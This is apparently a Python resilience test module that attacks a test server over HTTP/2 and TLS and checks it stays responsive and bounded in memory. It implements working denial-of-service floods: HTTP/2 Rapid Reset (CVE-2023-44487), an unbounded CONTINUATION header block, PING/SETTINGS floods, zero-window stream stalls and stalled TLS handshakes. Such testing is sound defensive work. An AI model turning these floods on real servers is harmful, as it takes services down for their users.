"""HTTP/2 and TLS as weapons against the server."""

import contextlib
import socket
import ssl
import struct
import time

from model import check_row, Fail
from world import rss_of

AREA = "HTTP/2 and TLS"

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
GROWTH = 64 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(world, path=b"/health"):
    """HPACK without the dynamic table: GET, https, path, authority."""
    authority = b"api." + world.domain.encode()
    return b"\x82\x87\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(authority)]) + authority


class Session:
    def __init__(self, world):
        context = ssl.create_default_context(cafile=world.server.ca)
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection((world.tls_host, world.server.tls_port), timeout=10)
        self.socket = context.wrap_socket(plain, server_hostname="api." + world.domain)
        if self.socket.selected_alpn_protocol() != "h2":
            raise Fail(f"no HTTP/2 by ALPN: {self.socket.selected_alpn_protocol()}")
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        """False: the server closed."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def frames(self, patience=5.0):
        """What the server says until it closes or is silent."""
        buffer = b""
        self.socket.settimeout(patience)
        while True:
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                yield buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7fffffff, buffer[9:9 + length]
                buffer = buffer[9 + length:]
            try:
                piece = self.socket.recv(65536)
            except (TimeoutError, OSError):
                return
            if not piece:
                return
            buffer += piece

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.close()


def ordinary(world):
    """The control: one request in order."""
    session = Session(world)
    try:
        session.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, head(world)))
        for kind, _, stream, payload in session.frames():
            if kind == HEADERS and stream == 1:
                return f"an ordinary request is answered in {len(payload)} bytes"
            if kind == GOAWAY:
                break
    finally:
        session.close()
    raise Fail("an ordinary HTTP/2 request was not answered")


def probe(world):
    """How long a plain request takes meanwhile."""
    begun = time.monotonic()
    status, _ = world.api.request("GET", "/health", timeout=10)
    if status not in (200, 204):
        raise Fail(f"/health answered {status} meanwhile")
    return time.monotonic() - begun


def judge(world, session, before, what):
    goaway = any(kind == GOAWAY for kind, *_ in session.frames(2.0))
    session.close()
    took = max(probe(world) for _ in range(5))
    if took > 2:
        raise Fail(f"{what}: others waited {took:.1f} s")
    grown = rss_of(world.server.pid) - before
    if grown > GROWTH:
        raise Fail(f"{what}: the server grew by {grown >> 20} MiB")
    return goaway


def rapid_reset(world):
    shown = ordinary(world)
    before, session, sent = rss_of(world.server.pid), Session(world), 0
    request = head(world, b"/sandboxes/nonexistingsandbox")
    open_still = True
    for batch in range(200):
        pairs = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * (batch * 100 + i) + 1, request) +
                         frame(RST_STREAM, 0, 2 * (batch * 100 + i) + 1, struct.pack(">I", 8)) for i in range(100))
        open_still = session.send(pairs)
        if not open_still:
            break
        sent += 100
    goaway = judge(world, session, before, "rapid reset")
    if open_still and not goaway:
        raise Fail(f"{sent} requests were opened and reset on one connection, and it was let be")
    return f"{shown}; cut after at most {sent} resets"


def continuation_flood(world):
    shown = ordinary(world)
    before, session = rss_of(world.server.pid), Session(world)
    session.send(frame(HEADERS, END_STREAM, 1, head(world)))
    filler = b"\x00\x08x-filler\x7f\x80\x7f" + b"a" * 255
    open_still = True
    for _ in range(20000):  # at most some 80 MiB
        open_still = session.send(frame(CONTINUATION, 0, 1, filler * 15))
        if not open_still:
            break
    goaway = judge(world, session, before, "header block without end")
    if open_still and not goaway:
        raise Fail("a header block without end was read to its end")
    return shown


def ping_flood(world):
    """Questions whose answers nobody reads."""
    shown = ordinary(world)
    before, session = rss_of(world.server.pid), Session(world)
    session.socket.settimeout(5)
    burst = frame(PING, 0, 0, b"canary!!") * 1000 + frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 1000
    for _ in range(100):
        if not session.send(burst):
            break
    judge(world, session, before, "PING and SETTINGS without end")
    return shown


def closed_window(world):
    """Many answers that the client does not take."""
    shown = ordinary(world)
    before, session = rss_of(world.server.pid), Session(world)
    session.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    for i in range(200):
        session.send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, head(world, b"/health")))
    judge(world, session, before, "windows that stay closed")
    return shown


def silent_handshakes(world):
    shown = ordinary(world)
    before, silent = rss_of(world.server.pid), []
    try:
        for i in range(400):
            connection = socket.create_connection((world.tls_host, world.server.tls_port), timeout=5)
            if i % 2:
                connection.sendall(b"\x16\x03\x01\x02\x00\x01\x00")  # the beginning of a ClientHello
            silent.append(connection)
        ordinary(world)
        took = max(probe(world) for _ in range(5))
        if took > 2:
            raise Fail(f"others waited {took:.1f} s")
        grown = rss_of(world.server.pid) - before
        if grown > GROWTH:
            raise Fail(f"the server grew by {grown >> 20} MiB")
    finally:
        for connection in silent:
            connection.close()
    return shown


def plain_on_tls(world):
    with socket.create_connection((world.tls_host, world.server.tls_port), timeout=10) as connection:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        answer = connection.recv(4096)
    if answer and not answer.startswith(b"HTTP/1.1 400"):
        raise Fail(f"plain HTTP on the TLS port was answered {answer[:80]!r}")
    return ordinary(world)


ROWS = [
    check_row("h2_rapid_reset", "open and reset streams without end (CVE-2023-44487)", "resets are counted; the connection is cut", rapid_reset),
    check_row("h2_continuation_flood", "a header block without end (CVE-2024-27316 class)", "bounded header block", continuation_flood),
    check_row("h2_ping_flood", "PING and SETTINGS without end, answers unread", "bounded queue of answers", ping_flood),
    check_row("h2_closed_window", "answers that are never taken", "flow control; bounded streams and buffers", closed_window),
    check_row("tls_silence", "handshakes that never end", "deadline; connections are cheap", silent_handshakes),
    check_row("plain_on_tls", "plain HTTP on the TLS port", "refused", plain_on_tls),
]
